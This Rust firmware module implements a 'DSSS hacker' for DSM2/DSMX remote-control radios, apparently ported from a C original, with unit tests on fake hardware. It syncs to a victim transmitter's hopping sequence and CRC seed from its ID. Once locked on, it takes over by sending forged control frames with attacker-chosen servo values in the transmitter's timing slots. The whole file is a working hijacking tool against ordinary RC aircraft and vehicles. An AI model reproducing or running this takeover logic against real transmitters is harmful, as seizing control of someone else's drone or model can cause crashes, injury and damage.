//! DSSS hacker — the centerpiece state machine (spec §4.4).
//!
//! Grounded directly on `original_source/src/protocol/dsm_hack.c`: the
//! timings, the `DSM_HACK_*` state shape, `protocol_dsm_hack_next`'s
//! hop/crc-flip step and `protocol_dsm_build_packet`'s forged-frame layout
//! are all taken from that file's logic, generalized over [`DsssRadio`],
//! [`TickTimer`] and [`AntennaMux`] instead of the `cyrf6936`/`timer1`/
//! `ant_switch` globals it calls directly. One deliberate behavior change
//! from the source (spec §3 `RcChannelBuffer`): the forged frame's servo
//! values come from the host-supplied channel buffer, not the constant
//! `1000` the reference firmware hardcodes.

use core::cell::RefCell;

use crate::channel_decode::channel_to_radio;
use crate::dispatcher::{ExecType, ProtocolSlot};
use crate::dsm_channels::generate_channels_dsmx;
use crate::hal::{AntennaMux, Chip, DsssHopConfig, DsssRadio, RadioMode, TickTimer};
use crate::identity::{DsmIdentity, RadioEvent, RcChannelBuffer, DSM_MAX_USED_CHANNELS};
use crate::protocols::ArgAssembler;

/// Units of 10 microseconds (spec §4.4 "Timings").
const SYNC_RECV_TIME: u32 = 2000;
const RECV_TIME_A: u32 = 1950;
const RECV_TIME_A_SHORT: u32 = 850;
const RECV_TIME_B: u32 = 550;

const MISS_LIMIT: u8 = 3;
const TAKEOVER_THRESHOLD: u32 = 15;
const PACKET_LEN: usize = 16;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    Sync,
    RecvA,
    RecvB,
    SendA,
    SendB,
}

struct StartArgs {
    is_dsmx: bool,
    txid: [u8; 4],
    seed_channels: [u8; 2],
}

struct ExtraArgs {
    start_takeover: bool,
    is_11bit: bool,
}

/// Synchronizes to, then optionally takes over, a DSM2/DSMX transmitter.
pub struct DsssHacker<'a, R: DsssRadio, T: TickTimer, A: AntennaMux> {
    radio: R,
    timer: T,
    antenna: A,
    rc_channels: &'a RefCell<RcChannelBuffer>,

    state: State,
    identity: DsmIdentity,
    chan_idx: usize,
    missed_packets: u8,
    succ_packets: u32,
    recv_time_short: bool,
    is_11bit: bool,
    start_takeover: bool,
    time_chan_a: u32,
    time_chan_b: u32,
    transmit_packet: [u8; PACKET_LEN],

    start_args: ArgAssembler<7>,
    extra_args: ArgAssembler<2>,
    pending_start: Option<StartArgs>,
}

impl<'a, R: DsssRadio, T: TickTimer, A: AntennaMux> DsssHacker<'a, R, T, A> {
    pub fn new(radio: R, timer: T, antenna: A, rc_channels: &'a RefCell<RcChannelBuffer>) -> Self {
        Self {
            radio,
            timer,
            antenna,
            rc_channels,
            state: State::Sync,
            identity: DsmIdentity::default(),
            chan_idx: 0,
            missed_packets: 0,
            succ_packets: 0,
            recv_time_short: false,
            is_11bit: false,
            start_takeover: false,
            time_chan_a: 0,
            time_chan_b: 0,
            transmit_packet: [0; PACKET_LEN],
            start_args: ArgAssembler::default(),
            extra_args: ArgAssembler::default(),
            pending_start: None,
        }
    }

    /// Hop step: advance `chan_idx`, flip `crc_seed`, reprogram the chip
    /// (spec §4.4 "Hop step", §4.3 "Per-hop radio setup").
    fn next(&mut self) {
        let n = if self.identity.is_dsmx { DSM_MAX_USED_CHANNELS } else { 2 };
        self.chan_idx = (self.chan_idx + 1) % n;
        self.identity.flip_crc_seed();

        let channel = self.identity.channels[self.chan_idx];
        let pn_row = crate::dsm_channels::pn_row(channel, self.identity.is_dsmx);
        let _ = self.radio.configure_hop(DsssHopConfig {
            channel,
            sop_col: self.identity.sop_col,
            data_col: self.identity.data_col,
            pn_row,
            is_dsm2: !self.identity.is_dsmx,
            crc_seed: self.identity.crc_seed,
        });
    }

    fn build_packet(&mut self) {
        let header = self.identity.frame_header();
        self.transmit_packet[0] = header[0];
        self.transmit_packet[1] = header[1];

        let rc = self.rc_channels.borrow();
        for i in 0..7u8 {
            let servo = rc.get(i as usize).unwrap_or(1000);
            let word = channel_to_radio(i, servo, self.is_11bit);
            let bytes = word.to_be_bytes();
            self.transmit_packet[i as usize * 2 + 2] = bytes[0];
            self.transmit_packet[i as usize * 2 + 3] = bytes[1];
        }
    }

    fn enter_sync(&mut self) {
        self.state = State::Sync;
        self.recv_time_short = false;
        self.succ_packets = 0;
        let _ = self.radio.abort_receive();
        self.next();
        let _ = self.radio.start_receive();
        self.timer.set(SYNC_RECV_TIME);
    }
}

impl<'a, R: DsssRadio, T: TickTimer, A: AntennaMux> ProtocolSlot for DsssHacker<'a, R, T, A> {
    fn name(&self) -> &'static str {
        "dsss_hacker"
    }

    fn init(&mut self) {
        self.timer.stop();
        self.state = State::Sync;
        self.chan_idx = 0;
        self.recv_time_short = false;
        self.start_takeover = false;
        self.is_11bit = false;
        self.antenna.select(Chip::Dsss);
        let _ = self.radio.reset();
    }

    fn deinit(&mut self) {
        self.timer.stop();
    }

    fn start(&mut self) {
        let Some(args) = self.pending_start.take() else { return };

        self.identity = DsmIdentity::new(args.txid, args.is_dsmx);
        self.state = State::Sync;
        self.missed_packets = 0;
        self.succ_packets = 0;
        self.recv_time_short = false;
        self.start_takeover = false;

        if args.is_dsmx {
            self.identity.channels = generate_channels_dsmx(args.txid);
            self.chan_idx = DSM_MAX_USED_CHANNELS - 1;
        } else {
            self.identity.channels[0] = args.seed_channels[0];
            self.identity.channels[1] = args.seed_channels[1];
            self.chan_idx = 0;
        }

        self.next();
        let _ = self.radio.start_receive();
        self.timer.set(SYNC_RECV_TIME);
    }

    fn stop(&mut self) {
        self.timer.stop();
        let _ = self.radio.set_mode(RadioMode::Rx);
        let _ = self.radio.abort_receive();
    }

    fn run(&mut self) {}

    fn status(&self) -> &'static str {
        match self.state {
            State::Sync => "sync",
            State::RecvA => "recv_a",
            State::RecvB => "recv_b",
            State::SendA => "send_a",
            State::SendB => "send_b",
        }
    }

    fn parse_arg(&mut self, exec_type: ExecType, data: &[u8], offset: u16, total: u16) {
        match exec_type {
            ExecType::Start => {
                if let Some(arg) = self.start_args.feed(data, offset, total) {
                    if arg.len() == 7 {
                        let is_dsmx = arg[0] != 0;
                        let txid = [arg[1], arg[2], arg[3], arg[4]];
                        let seed_channels = [arg[5], arg[6]];
                        self.pending_start = Some(StartArgs { is_dsmx, txid, seed_channels });
                    }
                }
            }
            ExecType::Extra => {
                if let Some(arg) = self.extra_args.feed(data, offset, total) {
                    if arg.len() == 2 {
                        self.start_takeover = arg[0] != 0;
                        self.is_11bit = arg[1] != 0;
                    }
                }
            }
            ExecType::Stop => {}
        }
    }

    fn on_tick_expired(&mut self) {
        match self.state {
            State::Sync => self.enter_sync(),

            State::RecvA => {
                if self.missed_packets > MISS_LIMIT {
                    self.enter_sync();
                    return;
                }
                let _ = self.radio.abort_receive();
                self.next();
                let _ = self.radio.start_receive();
                self.timer.set(RECV_TIME_B);
                self.state = State::RecvB;
            }

            State::RecvB => {
                if self.missed_packets > MISS_LIMIT {
                    self.enter_sync();
                    return;
                }
                let _ = self.radio.abort_receive();
                self.next();
                let _ = self.radio.start_receive();
                self.timer.set(if self.recv_time_short { RECV_TIME_A_SHORT } else { RECV_TIME_A });
                self.state = State::RecvA;
            }

            State::SendA => {
                self.timer.set(self.time_chan_b + 20);
                self.build_packet();
                let packet = self.transmit_packet;
                let _ = self.radio.send(&packet);
                self.state = State::SendB;
            }

            State::SendB => {
                self.timer.set(self.time_chan_a + 20);
                self.build_packet();
                let packet = self.transmit_packet;
                let _ = self.radio.send(&packet);
                self.state = State::SendA;
            }
        }
    }

    fn on_radio_event(&mut self, event: RadioEvent) {
        match event {
            RadioEvent::SendDone { .. } => {
                let _ = self.radio.set_mode(RadioMode::Tx);
                self.next();
            }
            RadioEvent::RecvReady { length, error } => {
                if length as usize != PACKET_LEN {
                    let _ = self.radio.start_receive();
                    return;
                }
                let mut payload = [0u8; PACKET_LEN];
                let _ = self.radio.read_payload(&mut payload);
                let crc_ok = self.radio.crc_ok();
                let _ = self.radio.set_mode(RadioMode::Rx);
                let _ = self.radio.abort_receive();

                if self.identity.packet_matches(payload[0], payload[1]) {
                    if error && !crc_ok {
                        self.identity.flip_crc_seed();
                    }

                    let elapsed = self.timer.elapsed();
                    self.next();
                    self.missed_packets = 0;

                    if !error {
                        self.succ_packets = (self.succ_packets + 1).min(5000);

                        if self.succ_packets >= TAKEOVER_THRESHOLD {
                            let _ = self.radio.set_mode(RadioMode::Tx);
                            self.build_packet();
                            if self.state == State::RecvA {
                                self.state = State::SendB;
                                self.timer.set(self.time_chan_b);
                            } else {
                                self.state = State::SendA;
                                self.timer.set(self.time_chan_a);
                            }
                            let packet = self.transmit_packet;
                            let _ = self.radio.send(&packet);
                            return;
                        }

                        if self.succ_packets > 1 && elapsed < RECV_TIME_B {
                            self.time_chan_b = elapsed + 60;
                            self.state = State::RecvA;
                            self.timer.set(if self.recv_time_short { RECV_TIME_A_SHORT } else { RECV_TIME_A });
                        } else if self.succ_packets > 2 && elapsed < RECV_TIME_A_SHORT {
                            self.time_chan_a = elapsed + 60;
                            self.recv_time_short = true;
                            self.state = State::RecvB;
                            self.timer.set(RECV_TIME_B);
                        } else {
                            self.time_chan_a = elapsed + 60;
                            self.state = State::RecvB;
                            self.timer.set(RECV_TIME_B);
                        }
                    } else {
                        self.timer.set(RECV_TIME_A);
                    }
                }

                let _ = self.radio.start_receive();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hal::Chip as HalChip;
    use heapless::Vec;

    struct FakeTimer {
        deadline: u32,
        elapsed: u32,
        stopped: bool,
    }

    impl Default for FakeTimer {
        fn default() -> Self {
            Self { deadline: 0, elapsed: 0, stopped: true }
        }
    }

    impl TickTimer for FakeTimer {
        fn set(&mut self, ticks_10us: u32) {
            self.deadline = ticks_10us;
            self.stopped = false;
        }
        fn stop(&mut self) {
            self.stopped = true;
        }
        fn elapsed(&self) -> u32 {
            self.elapsed
        }
    }

    struct FakeAntenna {
        selected: Option<HalChip>,
    }

    impl Default for FakeAntenna {
        fn default() -> Self {
            Self { selected: None }
        }
    }

    impl AntennaMux for FakeAntenna {
        fn select(&mut self, chip: HalChip) {
            self.selected = Some(chip);
        }
    }

    #[derive(Default)]
    struct FakeDsssRadio {
        hops: Vec<DsssHopConfig, 64>,
        next_payload: Option<[u8; 16]>,
        crc_ok: bool,
        sent: Vec<[u8; 16], 16>,
    }

    impl DsssRadio for FakeDsssRadio {
        type Error = ();
        fn reset(&mut self) -> Result<(), ()> {
            Ok(())
        }
        fn set_mode(&mut self, _mode: RadioMode) -> Result<(), ()> {
            Ok(())
        }
        fn configure_hop(&mut self, cfg: DsssHopConfig) -> Result<(), ()> {
            let _ = self.hops.push(cfg);
            Ok(())
        }
        fn start_receive(&mut self) -> Result<(), ()> {
            Ok(())
        }
        fn abort_receive(&mut self) -> Result<(), ()> {
            Ok(())
        }
        fn flush(&mut self) -> Result<(), ()> {
            Ok(())
        }
        fn read_payload(&mut self, out: &mut [u8]) -> Result<usize, ()> {
            if let Some(p) = self.next_payload {
                out[..16].copy_from_slice(&p);
                Ok(16)
            } else {
                Ok(0)
            }
        }
        fn crc_ok(&self) -> bool {
            self.crc_ok
        }
        fn send(&mut self, data: &[u8]) -> Result<(), ()> {
            let mut buf = [0u8; 16];
            buf.copy_from_slice(data);
            let _ = self.sent.push(buf);
            Ok(())
        }
        fn manufacturer_id(&mut self) -> Result<u32, ()> {
            Ok(0)
        }
    }

    fn make_hacker<'a>(
        rc: &'a RefCell<RcChannelBuffer>,
    ) -> DsssHacker<'a, FakeDsssRadio, FakeTimer, FakeAntenna> {
        DsssHacker::new(FakeDsssRadio::default(), FakeTimer::default(), FakeAntenna::default(), rc)
    }

    #[test]
    fn start_seeds_identity_and_begins_sync() {
        let rc = RefCell::new(RcChannelBuffer::default());
        let mut hacker = make_hacker(&rc);
        hacker.init();
        hacker.parse_arg(ExecType::Start, &[1, 0x2A, 0xA2, 0xCC, 0x16, 0, 0], 0, 7);
        hacker.start();

        assert!(hacker.identity.is_dsmx);
        assert_eq!(hacker.identity.id, [0x2A, 0xA2, 0xCC, 0x16]);
        assert_eq!(hacker.status(), "sync");
        assert_eq!(hacker.timer.deadline, SYNC_RECV_TIME);
    }

    #[test]
    fn invariant_2_full_hop_sequence_is_visited() {
        let rc = RefCell::new(RcChannelBuffer::default());
        let mut hacker = make_hacker(&rc);
        hacker.init();
        hacker.parse_arg(ExecType::Start, &[1, 0x2A, 0xA2, 0xCC, 0x16, 0, 0], 0, 7);
        hacker.start();

        let mut expected_sorted = hacker.identity.channels;
        let mut visited = [0u8; DSM_MAX_USED_CHANNELS];
        for slot in visited.iter_mut() {
            hacker.next();
            *slot = hacker.identity.channels[hacker.chan_idx];
        }
        expected_sorted.sort();
        visited.sort();
        assert_eq!(expected_sorted, visited);
    }

    #[test]
    fn invariant_3_crc_seed_returns_after_two_hops() {
        let rc = RefCell::new(RcChannelBuffer::default());
        let mut hacker = make_hacker(&rc);
        hacker.init();
        hacker.parse_arg(ExecType::Start, &[0, 0x2A, 0xA2, 0xCC, 0x16, 0, 0], 0, 7);
        hacker.start();

        let initial = hacker.identity.crc_seed;
        hacker.next();
        hacker.next();
        assert_eq!(hacker.identity.crc_seed, initial);
    }

    #[test]
    fn s3_forged_frame_reflects_rc_data() {
        let rc = RefCell::new(RcChannelBuffer::default());
        rc.borrow_mut().set(&[1500; 7]);
        let mut hacker = make_hacker(&rc);
        hacker.init();
        hacker.parse_arg(ExecType::Start, &[1, 0x2A, 0xA2, 0xCC, 0x16, 0, 0], 0, 7);
        hacker.start();
        hacker.parse_arg(ExecType::Extra, &[0, 1], 0, 2);

        hacker.succ_packets = TAKEOVER_THRESHOLD + 1;
        hacker.build_packet();

        assert_eq!(hacker.transmit_packet[0], 0xCC);
        assert_eq!(hacker.transmit_packet[1], 0x16);
        for i in 0..7u8 {
            let word = u16::from_be_bytes([
                hacker.transmit_packet[i as usize * 2 + 2],
                hacker.transmit_packet[i as usize * 2 + 3],
            ]);
            assert_eq!(word & 0x7FF, 1500);
        }
    }
}
